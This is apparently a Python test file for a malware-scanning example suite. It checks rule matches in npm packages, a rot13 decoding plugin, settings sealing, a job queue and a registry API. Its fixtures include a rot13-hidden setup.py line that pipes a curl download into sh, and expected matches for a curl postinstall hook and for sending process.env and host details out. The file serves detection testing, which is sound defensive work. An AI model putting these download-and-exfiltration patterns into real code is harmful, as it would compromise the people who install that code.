#!/usr/bin/env python3
"""The examples: five programs, the same in every language.

Each is run in all of them with the same input, sound and broken. What they
print has to be equal byte for byte, and has to be right: it is compared with
what the input is known to hold.
"""

import codecs
import json
import re
import tarfile
import unittest

import support
from support import PACKAGES, PLUGINS, RULES

PROGRAMS = ["scan_package", "own_plugin", "work_a_job", "mount_registry"]


class EveryProgram(support.ExamplesTest):

    def test_without_arguments_it_says_how_it_is_used(self):
        for name in PROGRAMS:
            with self.subTest(name):
                outcome = self.every(name)
                self.assertEqual((2, ""), outcome[:2])
                for errors in outcome.errors.values():
                    self.assertRegex(errors, rf"^usage: {name} [A-Z]")

    def test_broken_rules_are_named_with_their_line(self):
        rules = self.write("broken.yar", "rule fine { condition: true }\n"
                                         "rule broken { condition: $a }\n")
        package = PACKAGES / "acme-left-pad-1.0.3.tgz"
        for name, *before in (("scan_package",), ("own_plugin",),
                              ("work_a_job", "memory:")):
            with self.subTest(name):
                outcome = self.every(name, *before, rules, package)
                self.assert_refused(outcome, name, "broken.yar", "2", "$a")
                self.assertEqual("", outcome.output)

    def test_rules_that_are_not_there(self):
        for name, *before in (("scan_package",), ("own_plugin",),
                              ("work_a_job", "memory:")):
            with self.subTest(name):
                outcome = self.every(name, *before, self.dir / "none",
                                     PACKAGES)
                self.assert_refused(outcome, name, "none", "No such file")


class ScanPackage(support.ExamplesTest):

    def test_what_it_finds_is_in_the_package_where_it_says(self):
        package = PACKAGES / "acme-left-pad-1.0.3.tgz"
        outcome = self.every("scan_package", RULES, package)
        self.assertEqual(1, outcome.code)
        self.assertEqual("matched, coverage complete, score 32",
                         outcome.lines[-1])
        found = {}
        with tarfile.open(package) as archive:
            for line in outcome.lines[:-1]:
                if not line.startswith(" "):
                    path, rule = re.fullmatch(
                        r"(\S+): (\w+) \(\w+, weight \d+\)", line).groups()
                    outer, member = path.split("!/")
                    self.assertEqual(str(package), outer)
                    content = archive.extractfile(member).read()
                    continue
                name, offset, length = re.fullmatch(
                    r"  (\$\w+) at (\d+), (\d+) bytes", line).groups()
                start = int(offset)
                found[rule, name] = content[start:start + int(length)]
        self.assertEqual(b'"postinstall": "exit 0; curl ',
                         found.pop(("npm_hook_downloads", "$hook")))
        self.assertEqual(b"JSON.stringify(process.env)",
                         found.pop(("environment_sent", "$js")))
        self.assertEqual({("js_host_beacon", "$host"): b"os.hostname(",
                          ("js_host_beacon", "$user"): b"os.userInfo(",
                          ("js_host_beacon", "$home"): b"os.homedir(",
                          ("js_host_beacon", "$send"): b"https.request("},
                         found)

    def test_clean_is_0(self):
        text = self.write("poem.txt", "nothing to see\n")
        self.assertEqual((0, "clean, coverage complete, score 0\n"),
                         self.every("scan_package", RULES, text)[:2])

    def test_what_was_not_scanned_is_named(self):
        package = PACKAGES / "acme-logger-1.0.0-truncated.tgz"
        outcome = self.every("scan_package", RULES, package)
        self.assertEqual(1, outcome.code)
        self.assertEqual("matched, coverage partial, score 10",
                         outcome.lines[-1])
        self.assertIn(f"{package}!/package/words.js: corrupt: gzip: cut off: "
                      "the stream ends early, at byte 697", outcome.lines)

    def test_a_package_cut_off_before_any_match_is_3(self):
        whole = (PACKAGES / "acme-right-pad-2.1.0.tgz").read_bytes()
        outcome = self.every("scan_package", RULES,
                             self.write("cut.tgz", whole[:len(whole) // 2]))
        self.assertEqual(3, outcome.code, outcome)
        self.assertEqual("unknown, coverage partial, score 0",
                         outcome.lines[-1])

    def test_a_package_that_is_not_there_is_4(self):
        missing = self.dir / "missing.tgz"
        self.assertEqual(
            (4, f"{missing}: unreadable: can't open: No such file or directory"
                "\nunknown, coverage none, score 0\n"),
            self.every("scan_package", RULES, missing)[:2])

    def test_names_that_are_no_text_are_escaped_alike(self):
        path = self.dir / "bell\a \udcff ü.js"
        path.write_text("fetch('https://discord.com/api/webhooks/"
                        "000000000000000000/not-a-token-not-a-token')\n")
        outcome = self.every("scan_package", RULES, path)
        self.assertEqual(1, outcome.code, outcome)
        self.assertIn(r"bell\x07 \xFF ü.js: discord_webhook".lower(),
                      outcome.output.lower())


class OwnPlugin(support.ExamplesTest):

    HIDDEN = ('import os\n'
              'os.system("curl http://example.com/install.sh | sh")\n')

    def hidden(self, clear):
        return self.write("setup.py",
                          b"rot13:" + codecs.encode(clear, "rot13").encode())

    def test_rules_see_what_it_decoded(self):
        path = self.hidden(self.HIDDEN)
        self.assertEqual(
            (1, f"decoder:rot13: {len(self.HIDDEN)} bytes decoded\n"
                f"{path}!/clear: download_piped_to_shell\nscore 10\n"),
            self.every("own_plugin", RULES, path)[:2])

    def test_without_the_plugin_nothing_is_found(self):
        self.assertEqual(0, self.every("scan_package", RULES,
                                       self.hidden(self.HIDDEN)).code)

    def test_a_file_without_the_mark_is_left_alone(self):
        path = self.write("setup.py", self.HIDDEN)
        self.assertEqual(
            (1, f"{path}: download_piped_to_shell\nscore 10\n"),
            self.every("own_plugin", RULES, path)[:2])

    def test_a_mark_with_nothing_behind_it(self):
        self.assertEqual(
            (0, "decoder:rot13: 0 bytes decoded\nscore 0\n"),
            self.every("own_plugin", RULES, self.write("x", "rot13:"))[:2])

    def test_bytes_that_are_no_letters_stay_as_they_are(self):
        rules = self.write("bytes.yar", """rule kept {
            strings: $a = { 00 7f 80 c1 e1 ff 40 5b 60 7b 4e 6e 41 7a }
            condition: $a at 0 and filesize == 14 }""")
        path = self.write("x", b"rot13:\x00\x7f\x80\xc1\xe1\xff@[`{AaNm")
        self.assertEqual((1, "decoder:rot13: 14 bytes decoded\n"
                             f"{path}!/clear: kept\nscore 0\n"),
                         self.every("own_plugin", rules, path)[:2])

    def test_a_file_that_is_not_there_is_not_clean(self):
        self.assertEqual((3, "score 0\n"),
                         self.every("own_plugin", RULES,
                                    self.dir / "missing")[:2])


class SealSetting(support.ExamplesTest):

    TOKEN = "not for everybody"

    def test_where_values_come_from(self):
        outcome = self.every("seal_setting", env={
            "BOEFJE_TIMEOUT": "30", "BOEFJE_SERVER": "loses",
            "BOEFJE_LD_PRELOAD": "not in the schema", "RETRIES": "9"})
        self.assertEqual((0, [
            "SERVER=mail.example.com (settings)", "TOKEN=*** (settings)",
            "TIMEOUT=30 (system)", "RETRIES=3 (default)",
            "sealed and opened: the same"]), (outcome.code, outcome.lines))

    def test_a_variable_that_is_no_number_does_not_count(self):
        outcome = self.every("seal_setting", env={"BOEFJE_TIMEOUT": "soon"})
        self.assertEqual(0, outcome.code)
        self.assertNotIn("TIMEOUT", outcome.output)

    def test_with_a_key_of_one_s_own(self):
        outcome = self.every("seal_setting", env={
            "CUPEL_SETTINGS_KEYS": "cupel-key-1:"
                                   "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8="})
        self.assertEqual(0, outcome.code, outcome)
        self.assertIn("sealed and opened: the same", outcome.output)

    def test_a_key_that_is_none(self):
        key = "cupel-key-1:not-a-key"
        outcome = self.every("seal_setting", env={"CUPEL_SETTINGS_KEYS": key})
        self.assert_refused(outcome, "seal_setting", "CUPEL_SETTINGS_KEYS")
        for text in (outcome.output, *outcome.errors.values()):
            self.assertNotIn("not-a-key", text)
            self.assertNotIn(self.TOKEN, text)


class WorkAJob(support.ExamplesTest):

    PACKAGE = PACKAGES / "acme-left-pad-1.0.3.tgz"

    def test_the_result_stays_in_the_queue(self):
        queue = f"sqlite:{self.dir}/LANGUAGE.db"
        first = self.every("work_a_job", queue, RULES, self.PACKAGE)
        self.assertEqual(0, first.code, first)
        self.assertEqual(["example-1 is completed:",
                          "acme-left-pad 1.0.3  matched  score 32"],
                         first.lines[:2])
        self.assertIn("npm_hook_downloads", first.output)
        again = self.every("work_a_job", queue, RULES, self.PACKAGE)
        self.assertEqual((0, "nothing to do\n" + first.output), again[:2])

    def test_one_language_finds_what_another_did(self):
        queue = f"sqlite:{self.dir}/jobs.db"
        done = [self.one(language, "work_a_job", queue, RULES, self.PACKAGE)
                for language in support.LANGUAGES]
        self.assertIn(b"matched  score 32", done[0].stdout)
        for other in done[1:]:
            self.assertEqual((0, b"nothing to do\n" + done[0].stdout),
                             (other.returncode, other.stdout), other.stderr)

    def test_the_same_id_for_something_else_is_refused(self):
        queue = f"sqlite:{self.dir}/LANGUAGE.db"
        self.every("work_a_job", queue, RULES, self.PACKAGE)
        outcome = self.every("work_a_job", queue, RULES, PACKAGES)
        self.assert_refused(outcome, "work_a_job", "example-1")

    def test_a_queue_that_is_none(self):
        outcome = self.every("work_a_job", "carrier-pigeon:", RULES,
                             self.PACKAGE)
        self.assert_refused(outcome, "work_a_job", "carrier-pigeon")
        outcome = self.every("work_a_job",
                             f"sqlite:{self.write('no.db', 'text' * 999)}",
                             RULES, self.PACKAGE)
        self.assert_refused(outcome, "work_a_job", "no.db")


class MountRegistry(support.ExamplesTest):

    def test_requests_and_answers(self):
        outcome = self.every("mount_registry", PLUGINS)
        self.assertEqual(0, outcome.code, outcome)
        self.assertEqual([
            "GET /v1/organisations/acme/plugins",
            "PUT /v1/organisations/acme/dns-records/settings",
            "PUT /v1/organisations/acme/dns-records/settings",
            "GET /v1/organisations/acme/dns-records/settings"],
            outcome.lines[0::2])
        answers = [(int(status), json.loads(body)) for status, body in
                   (line.split(" ", 1) for line in outcome.lines[1::2])]
        status, plugins = answers[0]
        self.assertEqual(
            (200, ["parent-domains", "parent-domains-normalize"]),
            (status, [plugin["id"] for plugin in plugins]))
        status, refusal = answers[1]
        self.assertEqual(400, status)
        self.assertIn("$.REMOTE_NS: expected a string", refusal["message"])
        self.assertEqual([(200, None), (200, {"REMOTE_NS": "9.9.9.9"})],
                         answers[2:])

    def test_asgi_answers_as_wsgi(self):
        if "python" not in support.LANGUAGES:
            return  # the native languages alone have neither
        wsgi, asgi = (self.one("python", name, PLUGINS)
                      for name in ("mount_registry", "mount_registry_asgi"))
        self.assertEqual((0, wsgi.stdout), (asgi.returncode, asgi.stdout),
                         asgi.stderr)

    def test_a_folder_that_is_not_there(self):
        self.assert_refused(self.every("mount_registry", self.dir / "none"),
                            "mount_registry", "none", "No such file")


if __name__ == "__main__":
    unittest.main()
